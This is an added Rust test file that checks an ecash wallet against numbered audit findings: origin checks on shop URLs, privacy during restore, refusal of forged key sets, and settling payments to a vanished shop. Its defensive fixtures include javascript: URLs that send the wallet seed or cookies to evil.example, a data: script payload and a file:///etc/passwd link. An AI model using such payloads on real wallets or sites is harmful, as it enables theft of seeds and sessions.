@@ -1,0 +1,348 @@
+//! The audit's findings against the real wallet core and a real mint (bank
+//! and demo shop), with a hostile shop or bank played by rewriting real
+//! answers. Numbers are the findings' numbers in the audit.
+
+mod common;
+
+use std::time::Duration;
+
+use common::*;
+use ecash_core::keyset::RsaPublicKeyData;
+use ecash_core::messages::PayReq;
+use ecash_core::{B32, DenominationKey, Keypair, Signed, SignedKeySet};
+use wallet_wasm::records::Event;
+use wallet_wasm::{Offer, Wallet};
+
+/// Finding 1: a shop's URLs are used only on the origin its payment request
+/// came from, https (or http on loopback) only.
+#[tokio::test]
+async fn f1_shop_urls_must_stay_on_the_origin_of_the_request() {
+    let mint = Mint::start();
+    let dir = tempfile::tempdir().expect("tmp");
+    let (mut w, _) = funded(&mint, dir.path(), "payer", 1000).await;
+    w.withdraw(500, None).await.expect("withdraw");
+
+    // A payment request whose fulfillment URL is script, or another site,
+    // or whose pay URL is another site: refused before any coin moves.
+    for (field, value) in [
+        (
+            "fulfillment_url",
+            "javascript:fetch('//evil.example/?'+localStorage.seed)",
+        ),
+        ("fulfillment_url", "https://evil.example/done"),
+        (
+            "fulfillment_url",
+            "data:text/html,<script>alert(1)</script>",
+        ),
+        ("pay_url", "https://evil.example/pay"),
+        ("pay_url", "http://203.0.113.7/pay"),
+    ] {
+        let order = mint.order("haiku").await;
+        let url = format!("{}/shop/api/orders/{}", mint.url, order.payreq.payreq_id);
+        let v = value.to_owned();
+        w.transport().inject(
+            "/shop/api/orders/",
+            Fault::Tamper(Box::new(move |j| j[field] = serde_json::json!(v))),
+            1,
+        );
+        let offer = w.resolve_payreq(&url).await.expect("fetched");
+        assert_eq!(offer.origin, mint.url, "the origin it was fetched from");
+        let e = w.check_payreq(&offer).expect_err(value);
+        assert_eq!(e.code(), "payreq_invalid", "{e}");
+        let e = w.pay(offer).await.expect_err(value);
+        assert_eq!(e.code(), "payreq_invalid", "{e}");
+        assert_eq!(w.balance().total, 500);
+        assert!(w.pending().is_empty());
+    }
+    // Pasted as JSON: its own pay URL's origin is the origin, and must hold.
+    let order = mint.order("haiku").await;
+    let mut p: PayReq = order.payreq.clone();
+    p.fulfillment_url = "https://evil.example/done".into();
+    let e = w
+        .resolve_payreq(&serde_json::to_string(&p).expect("json"))
+        .await
+        .and_then(|o| w.check_payreq(&o).map(|_| o))
+        .expect_err("other origin");
+    assert_eq!(e.code(), "payreq_invalid");
+    let o = w
+        .resolve_payreq(&serde_json::to_string(&order.payreq).expect("json"))
+        .await
+        .expect("json payreq");
+    assert_eq!(o.origin, mint.url);
+    // A link that is not http(s) is never fetched.
+    for bad in [
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "web+ecash:javascript%3Aalert(1)",
+    ] {
+        let e = w.resolve_payreq(bad).await.expect_err(bad);
+        assert_eq!(e.code(), "payreq_invalid", "{bad}: {e}");
+    }
+
+    // The shop answers the payment with a script URL: the payment stands
+    // (the receipt verifies), but the wallet keeps no link and says why.
+    w.transport().inject(
+        "/shop/api/pay/",
+        Fault::Tamper(Box::new(|j| {
+            j["fulfillment_url"] =
+                serde_json::json!("javascript:fetch('//evil.example/?'+document.cookie)")
+        })),
+        1,
+    );
+    let done = w.pay(mint.order("haiku").await).await.expect("paid");
+    assert!(done.goods_link().is_none());
+    let why = done.link_refused().expect("the refusal is reported");
+    assert!(why.contains("javascript:"), "{why}");
+    assert!(matches!(
+        &done.entry.event,
+        Event::Paid {
+            receipt: Some(_),
+            fulfillment_url: None,
+            ..
+        }
+    ));
+    // An honest shop: the link is on its origin, the payment id in the fragment only.
+    let done = w.pay(mint.order("haiku").await).await.expect("paid");
+    let link = done.goods_link().expect("link");
+    assert!(
+        link.starts_with(&format!("{}/shop/fulfillment/", mint.url)),
+        "{link}"
+    );
+    assert!(
+        link.contains("#payment_id=") && !link.contains('?'),
+        "{link}"
+    );
+    for h in w.history() {
+        if let Some(l) = h.event.goods_link() {
+            assert!(l.starts_with(&mint.url), "{l}");
+        }
+    }
+}
+
+/// Finding 2: starting, recovering and restoring never show the bank the
+/// coins the wallet holds.
+#[tokio::test]
+async fn f2_the_wallet_never_shows_the_bank_its_coins() {
+    let mint = Mint::start();
+    let dir = tempfile::tempdir().expect("tmp");
+    let (mut w, path) = funded(&mint, dir.path(), "holder", 2000).await;
+    w.withdraw(1000, None).await.expect("withdraw");
+    w.pay(mint.order("coffee").await).await.expect("pay");
+    let (mut other, _) = funded(&mint, dir.path(), "other", 0).await;
+    let token = w.send(64).await.expect("send");
+    other.receive(&token).await.expect("receive");
+    let held: Vec<B32> = w.coins().iter().map(|r| r.coin.serial).collect();
+    let phrase = w.seed_phrase();
+    drop(w);
+
+    // What a wallet does on every start.
+    let mut w = reopen(&path).await;
+    w.recover().await.expect("recover");
+    let asked = w.transport().requests.borrow().clone();
+    assert!(
+        asked.iter().all(|u| u.ends_with("/keys")),
+        "recover asked the bank more than the key set: {asked:?}"
+    );
+
+    // Restore from the seed: the coins come back, found through the public
+    // spent lists, without a question about any serial.
+    let store = wallet_wasm::store::sqlite::SqliteStore::open(&dir.path().join("restored.db"))
+        .expect("store");
+    let (r, report) = Wallet::restore(
+        store,
+        Flaky::new(),
+        &mint.url,
+        None,
+        &phrase,
+        settings(),
+        None,
+    )
+    .await
+    .expect("restore");
+    let asked = r.transport().requests.borrow().clone();
+    assert!(
+        !asked.iter().any(|u| u.contains("/coins/state")),
+        "restore asked about serials: {asked:?}"
+    );
+    assert!(asked.iter().any(|u| u.ends_with("/spent")));
+    let mut got: Vec<B32> = r.coins().iter().map(|c| c.coin.serial).collect();
+    let mut want = held;
+    got.sort();
+    want.sort();
+    assert_eq!(got, want, "exactly the unspent coins");
+    assert_eq!(report.unspent, want.len());
+}
+
+/// The key set the mint serves, re-signed with its master key after `edit`.
+async fn forged_key_set(
+    mint: &Mint,
+    edit: impl FnOnce(&mut Vec<DenominationKey>),
+) -> serde_json::Value {
+    let secret =
+        std::fs::read_to_string(mint.dir.path().join("keys/master.key")).expect("master key");
+    let master = Keypair::from_secret_bytes(&B32::from_b64(secret.trim()).expect("b64").0);
+    let signed: SignedKeySet = reqwest::get(format!("{}/keys", mint.url))
+        .await
+        .expect("keys")
+        .json()
+        .await
+        .expect("key set");
+    let mut set = signed.body;
+    edit(&mut set.denominations);
+    serde_json::to_value(Signed::sign(set, &master)).expect("json")
+}
+
+/// A fresh denomination key with the windows of `like`.
+fn key_like(like: &DenominationKey, period: u64) -> DenominationKey {
+    let sk = ecash_core::blind_rsa::generate_key(2048).expect("keygen");
+    let public_key = RsaPublicKeyData::from_key(&sk.to_public_key());
+    DenominationKey {
+        key_id: public_key.key_id(),
+        public_key,
+        period,
+        ..like.clone()
+    }
+}
+
+/// Finding 5: a bank cannot tag one wallet with a key of its own, whether
+/// added beside the honest key or swapped for the key the wallet saw before.
+#[tokio::test]
+async fn f5_a_key_made_for_one_wallet_is_refused() {
+    let mint = Mint::start();
+    let dir = tempfile::tempdir().expect("tmp");
+    let (mut w, _) = funded(&mint, dir.path(), "target", 1000).await;
+    let honest: Vec<B32> = w.key_set().keys.keys().copied().collect();
+    let now = wallet_wasm::platform::now();
+    let current = move |d: &Vec<DenominationKey>| {
+        d.iter()
+            .find(|k| k.value.value == 1 && k.can_withdraw(now))
+            .cloned()
+            .expect("a key for 1")
+    };
+    let forged = vec![
+        // A second key for the same value and period, beside the honest one.
+        forged_key_set(&mint, |d| {
+            let k = current(d);
+            d.push(key_like(&k, k.period));
+        })
+        .await,
+        // A key under a period index of its own, over the same window.
+        forged_key_set(&mint, |d| {
+            let k = current(d);
+            d.push(key_like(&k, k.period + 1000));
+        })
+        .await,
+        // The honest key swapped for another under the same value and period.
+        forged_key_set(&mint, |d| {
+            let k = current(d);
+            d.retain(|x| x.key_id != k.key_id);
+            d.push(key_like(&k, k.period));
+        })
+        .await,
+    ];
+    for (i, set) in forged.into_iter().enumerate() {
+        w.transport().inject(
+            "/keys",
+            Fault::Tamper(Box::new(move |j| *j = set.clone())),
+            1,
+        );
+        let e = w.refresh_keys().await.expect_err("tagging key set");
+        assert_eq!(e.code(), "keyset_refused", "set {i}: {e}");
+        let mut now_keys: Vec<B32> = w.key_set().keys.keys().copied().collect();
+        now_keys.sort();
+        let mut want = honest.clone();
+        want.sort();
+        assert_eq!(now_keys, want, "set {i}: the honest set stays in use");
+    }
+    // The honest set is still accepted, and withdrawals use its keys only.
+    w.refresh_keys().await.expect("honest set");
+    w.withdraw(7, None).await.expect("withdraw");
+    assert!(w.coins().iter().all(|c| honest.contains(&c.coin.key_id)));
+}
+
+/// Finding 7: a payment whose shop never answers does not lock its coins:
+/// once the request has expired (plus grace), recover settles it with the
+/// bank: coins back if the shop never deposited, the bank's proof if it did.
+#[tokio::test]
+async fn f7_a_payment_to_a_vanished_shop_is_settled_after_expiry() {
+    let mint = Mint::start_with(&["--payreq-ttl-secs", "2"]);
+    let dir = tempfile::tempdir().expect("tmp");
+    let path = dir.path().join("payer.db");
+    let store = wallet_wasm::store::sqlite::SqliteStore::open(&path).expect("store");
+    let s = wallet_wasm::WalletSettings {
+        payment_grace_secs: 1,
+        ..settings()
+    };
+    let (mut w, _) = Wallet::create(store, Flaky::new(), &mint.url, None, s)
+        .await
+        .expect("create");
+    w.faucet(1000).await.expect("faucet");
+    w.withdraw(600, None).await.expect("withdraw");
+
+    // The shop is gone before it sees the payment.
+    let offer = mint.order("coffee").await;
+    let expires = offer.payreq.expires_at;
+    w.transport()
+        .inject("/shop/api/pay/", Fault::CutBefore, 1000);
+    let e = w.pay(offer).await.expect_err("shop gone");
+    assert_eq!(e.code(), "interrupted");
+    assert_eq!(w.balance().reserved, 300);
+    let r = w.recover().await.expect("recover");
+    assert_eq!(
+        (r.still_pending, w.balance().reserved),
+        (1, 300),
+        "not expired yet"
+    );
+
+    // The shop takes a payment to the bank, then vanishes.
+    let offer2 = mint.order("haiku").await;
+    let expires = expires.max(offer2.payreq.expires_at);
+    w.transport().clear();
+    w.transport().inject("/shop/api/pay/", Fault::DropAnswer, 1);
+    let e = w.pay(offer2).await.expect_err("answer lost");
+    assert_eq!(e.code(), "interrupted");
+    w.transport()
+        .inject("/shop/api/pay/", Fault::CutBefore, 1000);
+
+    let wait = expires
+        .saturating_add(2)
+        .saturating_sub(wallet_wasm::platform::now());
+    tokio::time::sleep(Duration::from_secs(wait + 1)).await;
+    let r = w.recover().await.expect("recover");
+    assert_eq!(r.resumed, 2, "{r:?}");
+    assert!(w.pending().is_empty(), "{:?}", w.pending());
+    let b = w.balance();
+    assert_eq!(
+        (b.total, b.reserved),
+        (600 - 25, 0),
+        "coffee coins back, haiku paid"
+    );
+    let proved = w.history().into_iter().any(|h| {
+        matches!(
+            h.event,
+            Event::Paid {
+                proof: Some(_),
+                receipt: None,
+                ..
+            }
+        )
+    });
+    assert!(proved, "the deposited payment is proved by the bank");
+}
+
+/// Every offer's origin is what the wallet shows the payer.
+#[test]
+fn offers_keep_their_origin() {
+    let o = Offer {
+        payreq: serde_json::from_value(serde_json::json!({
+            "payreq_id": "p", "amount": {"currency": "DEMO", "value": 1}, "timestamp": 0,
+            "expires_at": 0, "merchant_bank_id": "b", "merchant_acc_id": "m",
+            "description": "d", "pay_url": "https://s.example/p", "fulfillment_url": "https://s.example/f"
+        }))
+        .expect("payreq"),
+        origin: "https://s.example".into(),
+    };
+    let back: Offer =
+        serde_json::from_str(&serde_json::to_string(&o).expect("json")).expect("offer");
+    assert_eq!(back, o);
+}
